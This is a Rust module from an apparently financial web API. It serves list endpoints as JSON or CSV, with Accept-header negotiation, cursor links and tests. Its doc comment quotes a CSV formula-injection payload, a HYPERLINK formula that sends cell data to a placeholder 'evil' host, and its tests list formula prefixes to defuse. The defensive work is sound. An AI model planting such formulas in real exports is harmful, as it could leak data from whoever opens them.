//! List answers as JSON or CSV (docs/API-DESIGN.md, "CSV export").
//!
//! Every list endpoint answers the same page either as JSON
//! (`{"items": [...], "next_cursor": ...}`) or, when the client prefers
//! `text/csv` in `Accept`, as RFC 4180 CSV with a header row. The page,
//! its filter, its visibility and its cursor are the same; only the
//! rendering differs, so a CSV export can never show more than the JSON
//! list would.
//!
//! A list opts in by giving its item type the CSV columns
//! ([`CsvRow::COLUMNS`], members of the item's JSON) and answering through
//! [`page`] (or [`items`] for an unpaginated list), and by naming its
//! operation in [`CSV_OPERATIONS`] so that the OpenAPI document lists
//! `text/csv` for it:
//!
//! ```ignore
//! impl CsvRow for Organisation {
//!     const COLUMNS: &'static [&'static str] = &["id", "kind", "name", "status"];
//! }
//! // in the handler, instead of HttpResponse::Ok().json(page):
//! listing::page(&req, page)
//! ```

use crate::error::ApiError;
use crate::pagination::Page;
use actix_web::http::header::{self, Accept, Header, HeaderValue, Quality};
use actix_web::{HttpRequest, HttpResponse};
use serde::Serialize;

pub const CSV_CONTENT_TYPE: &str = "text/csv; charset=utf-8";
/// Carries the page's `next_cursor` in a CSV answer, which has no room for it.
pub const NEXT_CURSOR_HEADER: &str = "X-Next-Cursor";

/// The operations that answer CSV; [`crate::routes::openapi`] documents
/// `text/csv` and the paging headers for each.
pub const CSV_OPERATIONS: &[&str] = &[
    "list_organisations",
    "list_relationships",
    "list_users",
    "list_ledger_entries",
    "list_lpr_fixings",
    "list_plans",
    "list_accounts",
    "list_financings",
    "list_registration_tasks",
    "list_invoices",
    "list_purchase_orders",
    "list_held_certificates",
    "list_issued_certificates",
    "list_assignment_notices",
    "program_payables_due",
    "program_reach",
];

/// An item of a list that can be exported as CSV.
pub trait CsvRow: Serialize {
    /// The columns, in order: names of members of the item's JSON. A
    /// string member is written as is, a number or boolean as its JSON
    /// text, null or absent as an empty cell, an array or object as
    /// compact JSON. Amounts are decimal strings and timestamps RFC 3339
    /// already, so a column holds exactly what the JSON member holds.
    const COLUMNS: &'static [&'static str];
}

/// What the client asked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Json,
    Csv,
}

/// `text/csv` when `Accept` rates it above `application/json` (by the
/// most specific range naming each, RFC 9110 §12.5.1); JSON otherwise,
/// including without `Accept`, on a tie, and when `Accept` cannot be parsed
/// (lists answered JSON before CSV existed, whatever `Accept` said).
pub fn wants(req: &HttpRequest) -> Format {
    if req.headers().get(header::ACCEPT).is_none() {
        return Format::Json;
    }
    let Ok(accept) = Accept::parse(req) else {
        return Format::Json;
    };
    let q = |ty: &str, sub: &str| -> Quality {
        let mut best: Option<(u8, Quality)> = None;
        for item in accept.iter() {
            let (t, s) = (item.item.type_().as_str(), item.item.subtype().as_str());
            let specificity = match (t, s) {
                (t, s) if t.eq_ignore_ascii_case(ty) && s.eq_ignore_ascii_case(sub) => 2,
                (t, "*") if t.eq_ignore_ascii_case(ty) => 1,
                ("*", "*") => 0,
                _ => continue,
            };
            if best.is_none_or(|(b, _)| specificity > b) {
                best = Some((specificity, item.quality));
            }
        }
        best.map_or(Quality::ZERO, |(_, q)| q)
    };
    if q("text", "csv") > q("application", "json") {
        Format::Csv
    } else {
        Format::Json
    }
}

/// Answers one page of a list in the format the client asked for.
pub fn page<T: CsvRow>(req: &HttpRequest, page: Page<T>) -> Result<HttpResponse, ApiError> {
    match wants(req) {
        Format::Json => Ok(json(page)),
        Format::Csv => csv(req, &page.items, page.next_cursor.as_deref()),
    }
}

/// Answers an unpaginated list: `items` as CSV, or wrapped by `body` (its
/// JSON shape) as JSON.
pub fn items<T: CsvRow, B: Serialize>(
    req: &HttpRequest,
    items: Vec<T>,
    body: impl FnOnce(Vec<T>) -> B,
) -> Result<HttpResponse, ApiError> {
    match wants(req) {
        Format::Json => Ok(json(body(items))),
        Format::Csv => csv(req, &items, None),
    }
}

fn json(body: impl Serialize) -> HttpResponse {
    HttpResponse::Ok()
        // The same URL answers two formats: a cache must key on Accept.
        .insert_header((header::VARY, "Accept"))
        .json(body)
}

/// The CSV answer: the header row, one row per item, and the next cursor
/// in `X-Next-Cursor` and in a `Link: <...>; rel="next"` to the same
/// list with the cursor set.
pub fn csv<T: CsvRow>(
    req: &HttpRequest,
    items: &[T],
    next_cursor: Option<&str>,
) -> Result<HttpResponse, ApiError> {
    let body = to_csv(items)?;
    let mut res = HttpResponse::Ok();
    res.content_type(CSV_CONTENT_TYPE)
        .insert_header((header::VARY, "Accept"));
    if let Some(cursor) = next_cursor {
        let link = format!(
            "<{}>; rel=\"next\"",
            next_url(req.path(), req.query_string(), cursor)
        );
        let (Ok(cursor), Ok(link)) = (HeaderValue::from_str(cursor), HeaderValue::from_str(&link))
        else {
            return Err(ApiError::internal(anyhow::anyhow!(
                "a next cursor or link is not a header value"
            )));
        };
        res.insert_header((NEXT_CURSOR_HEADER, cursor))
            .insert_header((header::LINK, link));
    }
    Ok(res.body(body))
}

/// The same list with `cursor` replaced. The other parameters are kept as
/// the client sent them (already percent-encoded); a cursor is base64url,
/// which needs no encoding.
fn next_url(path: &str, query: &str, cursor: &str) -> String {
    let mut params: Vec<&str> = query
        .split('&')
        .filter(|p| !p.is_empty() && p.split('=').next() != Some("cursor"))
        .collect();
    let cursor = format!("cursor={cursor}");
    params.push(&cursor);
    format!("{path}?{}", params.join("&"))
}

/// Renders rows as RFC 4180 CSV: UTF-8, a header row, CRLF line ends, and
/// fields quoted when they hold a comma, a quote, CR or LF (the `csv`
/// crate does the quoting).
pub fn to_csv<T: CsvRow>(items: &[T]) -> Result<Vec<u8>, ApiError> {
    let failed = |e: csv::Error| ApiError::internal(anyhow::anyhow!("cannot write CSV: {e}"));
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(Vec::new());
    w.write_record(T::COLUMNS).map_err(failed)?;
    for item in items {
        let value = serde_json::to_value(item)
            .map_err(|e| ApiError::internal(anyhow::anyhow!("cannot render a row: {e}")))?;
        let row = T::COLUMNS.iter().map(|c| guard(cell(value.get(*c))));
        w.write_record(row).map_err(failed)?;
    }
    w.into_inner()
        .map_err(|e| ApiError::internal(anyhow::anyhow!("cannot write CSV: {e}")))
}

fn cell(v: Option<&serde_json::Value>) -> String {
    match v {
        None | Some(serde_json::Value::Null) => String::new(),
        Some(serde_json::Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    }
}

/// Defuses CSV (formula) injection. A spreadsheet opening the export runs
/// a cell that starts with `=`, `+`, `-` or `@` as a formula (and some
/// strip a leading tab or CR first), so a firm name such as
/// `=HYPERLINK("http://evil/?"&A1)` typed by one tenant could exfiltrate
/// or run something on the machine of whoever opens the export. Such a
/// cell gets a leading `'`, which spreadsheets show as text and do not
/// evaluate (OWASP, "CSV Injection"). A plain decimal number such as
/// `-12.50` is left alone: it is a number to a spreadsheet, not a formula,
/// and amounts must stay readable as numbers.
pub fn guard(s: String) -> String {
    let risky = matches!(s.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && !is_plain_number(&s) {
        format!("'{s}")
    } else {
        s
    }
}

fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]
    use super::*;
    use actix_web::test::TestRequest;

    #[derive(Serialize)]
    struct Row {
        name: String,
        amount: String,
        n: i64,
        flag: bool,
        missing: Option<String>,
        nested: serde_json::Value,
    }

    impl CsvRow for Row {
        const COLUMNS: &'static [&'static str] =
            &["name", "amount", "n", "flag", "missing", "nested", "absent"];
    }

    fn row(name: &str) -> Row {
        Row {
            name: name.to_owned(),
            amount: "-12.50".to_owned(),
            n: 7,
            flag: true,
            missing: None,
            nested: serde_json::json!({"a": [1, 2]}),
        }
    }

    #[test]
    fn rfc_4180_with_header_crlf_and_quoting() {
        let out = String::from_utf8(to_csv(&[row("Acme, \"Ltd\"\r\n北京")]).unwrap()).unwrap();
        assert_eq!(
            out,
            "name,amount,n,flag,missing,nested,absent\r\n\
             \"Acme, \"\"Ltd\"\"\r\n北京\",-12.50,7,true,,\"{\"\"a\"\":[1,2]}\",\r\n"
        );
        let empty = String::from_utf8(to_csv::<Row>(&[]).unwrap()).unwrap();
        assert_eq!(empty, "name,amount,n,flag,missing,nested,absent\r\n");
        // What a CSV reader makes of it is the original text.
        let mut r = csv::Reader::from_reader(out.as_bytes());
        let rec = r.records().next().unwrap().unwrap();
        assert_eq!(&rec[0], "Acme, \"Ltd\"\r\n北京");
    }

    #[test]
    fn formula_cells_are_defused_numbers_are_not() {
        for risky in [
            "=1+1",
            "+1",
            "-1+2",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "=HYPERLINK(\"x\")",
            "-",
            "-.5",
            "-1e5",
        ] {
            assert_eq!(guard(risky.to_owned()), format!("'{risky}"), "{risky:?}");
        }
        for safe in ["-12.50", "-3", "12", "a=b", "", "'=x", "北京"] {
            assert_eq!(guard(safe.to_owned()), safe, "{safe:?}");
        }
    }

    #[test]
    fn accept_decides_the_format() {
        let of = |accept: Option<&str>| {
            let mut r = TestRequest::default();
            if let Some(a) = accept {
                r = r.insert_header((header::ACCEPT, a));
            }
            wants(&r.to_http_request())
        };
        assert_eq!(of(None), Format::Json);
        assert_eq!(of(Some("text/csv")), Format::Csv);
        assert_eq!(of(Some("text/*")), Format::Csv);
        assert_eq!(of(Some("application/json")), Format::Json);
        assert_eq!(of(Some("*/*")), Format::Json);
        assert_eq!(of(Some("text/csv, application/json")), Format::Json);
        assert_eq!(of(Some("application/json;q=0.5, text/csv")), Format::Csv);
        assert_eq!(of(Some("text/csv;q=0, */*")), Format::Json);
        assert_eq!(of(Some("text/html, */*;q=0.8")), Format::Json);
        assert_eq!(of(Some("text/csv;q=0.9, */*;q=0.1")), Format::Csv);
        assert_eq!(of(Some("not a media type")), Format::Json);
    }

    #[test]
    fn next_link_replaces_only_the_cursor() {
        assert_eq!(
            next_url("/v1/lpr", "tenor=1Y&cursor=old&limit=2", "new_-1"),
            "/v1/lpr?tenor=1Y&limit=2&cursor=new_-1"
        );
        assert_eq!(next_url("/v1/users", "", "c"), "/v1/users?cursor=c");
    }
}
